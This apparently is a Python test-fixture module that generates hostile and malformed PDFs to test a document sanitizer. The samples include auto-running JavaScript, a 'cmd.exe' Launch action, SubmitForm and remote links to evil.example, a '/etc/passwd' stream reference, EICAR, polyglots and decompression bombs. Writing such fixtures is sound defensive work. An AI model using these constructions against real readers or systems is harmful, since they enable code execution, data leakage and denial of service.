"""PDFs: with things that act or carry, bombs, and broken ones."""

import io
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.harness.hostile.kinds import DRAWN, EICAR, MARKER, Hostile, hostile, zeros, zipped
from tests.harness.hostile.raw import raw_pdf, stream

M = MARKER.decode()


def pdf(change: Callable[[Pdf], object] = lambda _: None, pages: int = 1, **saving: object) -> bytes:
    """Return a PDF of pages with a word on each, changed."""
    made = Pdf.new()
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        page = made.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F=font))
        page.obj.Contents = Stream(made, f"BT /F 40 Tf 50 700 Td (Seite {number + 1}) Tj ET".encode())
    change(made)
    stream = io.BytesIO()
    made.save(stream, fix_metadata_version=False, **saving)  # type: ignore[arg-type]  # pikepdf has options of many types
    return stream.getvalue()


def opening(action: Dictionary) -> bytes:
    return pdf(lambda made: made.Root.__setitem__("/OpenAction", action))


def script(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def link(action: Dictionary) -> bytes:
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 500, 800]), A=action)
    return pdf(lambda made: made.pages[0].obj.__setitem__("/Annots", Array([made.make_indirect(note)])))


def on_page_open(made: Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=script(M))


def named_script(made: Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script(M)])))


def embedded(content: bytes) -> bytes:
    def attach(made: Pdf) -> None:
        made.attachments["photo.jpg"] = pikepdf.AttachedFileSpec(made, content, filename="photo.jpg")

    return pdf(attach)


def xfa(made: Pdf) -> None:
    form = f"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>{M}</script></xdp:xdp>".encode()
    made.Root.AcroForm = Dictionary(XFA=Stream(made, form), Fields=Array([]))


def filled_form(made: Pdf) -> None:
    """A text field whose script would compute its value."""
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("Muster"), F=4,
        Rect=Array([50, 500, 300, 540]), DA=String("/F 12 Tf 0 g"), AA=Dictionary(K=script(M), C=script("while(1);")),
    )  # fmt: skip
    field = made.make_indirect(field)
    made.pages[0].obj.Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]), DA=String("/F 12 Tf 0 g"), NeedAppearances=True)


def rich_media(made: Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 100, 100]), Contents=String(M))
    made.pages[0].obj.Annots = Array([made.make_indirect(note)])


def outside_stream(made: Pdf) -> None:
    """A page whose content lies in another file."""
    made.pages[0].obj.Contents = Stream(made, b"", F=String("/etc/passwd"))


def personal(made: Pdf) -> None:
    made.docinfo["/Author"] = M
    made.Root.Metadata = Stream(made, b"<x>" + MARKER + b"</x>", Type=Name.Metadata, Subtype=Name.XML)


def laughing(made: Pdf) -> None:
    """Ten forms, each of which draws the next one ten times: ten thousand million drawings."""
    form = Stream(made, b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 99, 99]))
    for _ in range(10):
        inside = Dictionary(XObject=Dictionary(X=made.make_indirect(form)))
        form = Stream(
            made, b"/X Do " * 10, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 99, 99]), Resources=inside
        )
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=made.make_indirect(form)))
    made.pages[0].obj.Contents = Stream(made, b"/X Do")


def drawing_itself(made: Pdf) -> None:
    form = made.make_indirect(
        Stream(made, b"/X Do /X Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 99, 99]))
    )
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=form))
    made.pages[0].obj.Contents = Stream(made, b"/X Do")


def large_picture() -> bytes:
    """A picture of 900 megapixels in colour, of some kilobytes."""
    entries = "/Subtype/Image/Width 30000/Height 30000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter["
    pixels = zeros(30000 * 30000 * 3, times=2)
    return raw_pdf(content=b"595 0 0 842 0 0 cm /X Do", extra=stream(pixels, entries + "/FlateDecode" * 2 + "]"))


def tiny_tiles() -> bytes:
    """A page filled with tiles a thousandth of a point apart."""
    entries = "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .001/YStep .001/Resources<<>>"
    return raw_pdf(content=b"/Pattern cs /X scn 0 0 595 842 re f", extra=stream(b"0 0 1 1 re f", entries))


def box(*sides: float) -> bytes:
    return pdf(lambda made: made.pages[0].obj.__setitem__("/MediaBox", Array(list(sides))))


def locked_with(user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="secret", user=user))


ACTIVE = {
    "pdf-that-runs-script": lambda: opening(script(f"app.launchURL('{M}')")),
    "pdf-that-launches": lambda: opening(Dictionary(S=Name.Launch, F=String(f"cmd.exe {M}"))),
    "pdf-with-script-on-a-page": lambda: pdf(on_page_open),
    "pdf-with-named-script": lambda: pdf(named_script),
    "pdf-with-link": lambda: link(Dictionary(S=Name.URI, URI=String(f"https://evil.example/{M}"))),
    "pdf-that-opens-another": lambda: link(Dictionary(S=Name.GoToR, F=String(rf"\\evil.example\{M}"), D=Array([0]))),
    "pdf-that-sends-itself": lambda: link(Dictionary(S=Name.SubmitForm, F=String(f"https://evil.example/{M}"))),
    "pdf-with-file": lambda: embedded(MARKER),
    "pdf-with-eicar": lambda: embedded(EICAR),
    "pdf-with-xfa": lambda: pdf(xfa),
    "pdf-with-scripted-form": lambda: pdf(filled_form),
    "pdf-with-film": lambda: pdf(rich_media),
    "pdf-and-zip": lambda: pdf() + zipped(**{"a.exe": MARKER}),
    "pdf-and-html": lambda: pdf().replace(b"\n", b"\n%<script>" + MARKER + b"</script>\n", 1),
    "pdf-with-owner-password": lambda: locked_with(""),
}
PAPERS: list[Hostile] = [
    *(hostile(name, make, DRAWN, locked=True) for name, make in ACTIVE.items()),
    hostile("pdf-of-a-person", lambda: pdf(personal), DRAWN, locked=False),
    hostile("pdf-with-user-password", lambda: locked_with("1234"), "encrypted"),
    hostile("pdf-with-outside-stream", lambda: pdf(outside_stream), DRAWN, "damaged"),
    hostile("pdf-of-51-pages", lambda: pdf(pages=51), "too-many-pages"),
    hostile("pdf-of-no-page", lambda: pdf(pages=0), "damaged"),
    hostile("pdf-of-laughs", lambda: pdf(laughing), DRAWN, "too-complex"),
    hostile("pdf-that-draws-itself", lambda: pdf(drawing_itself), DRAWN, "too-complex", "damaged"),
    hostile("pdf-with-large-picture", large_picture, DRAWN, "too-complex", "damaged"),
    hostile("pdf-of-giant-paper", lambda: box(0, 0, 1e9, 1e9), DRAWN, "damaged", "too-complex"),
    hostile("pdf-of-no-paper", lambda: box(0, 0, 0, 0), DRAWN, "damaged"),
    hostile("pdf-of-a-thread", lambda: box(0, 0, 0.001, 14400), DRAWN, "damaged"),
    hostile("pdf-truncated", lambda: pdf()[:300], DRAWN, "damaged"),
    hostile("pdf-head-alone", lambda: b"%PDF-1.7\n", "damaged"),
    hostile("pdf-of-noise", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400, "damaged"),
    hostile("pdf-of-deep-arrays", lambda: raw_pdf(f"/Deep {'[' * 200_000}"), DRAWN, "damaged", "too-complex"),
    hostile(
        "pdf-of-looping-pages", lambda: raw_pdf(kids="2 0 R 2 0 R"), DRAWN, "damaged", "too-complex", "too-many-pages"
    ),
    hostile(
        "pdf-that-claims-a-billion-pages", lambda: raw_pdf(count=1_000_000_000), DRAWN, "too-many-pages", "damaged"
    ),
    hostile("pdf-of-looping-xref", lambda: raw_pdf(previous=True), DRAWN, "damaged"),
    hostile("pdf-with-object-bomb", lambda: raw_pdf(bomb=zeros(1 << 31)), DRAWN, "damaged", "too-complex"),
    hostile(
        "pdf-with-content-bomb",
        lambda: raw_pdf(content=zeros(1 << 31, times=2), filters=2),
        DRAWN,
        "damaged",
        "too-complex",
    ),
    hostile(
        "pdf-with-unknown-lock", lambda: raw_pdf(trailer="/Encrypt<</Filter/Secret/V 9/R 9>>"), "encrypted", "damaged"
    ),
    hostile("pdf-with-tiny-tiles", tiny_tiles, DRAWN, "too-complex"),
    hostile("pdf-of-an-empty-page", raw_pdf, DRAWN),
]
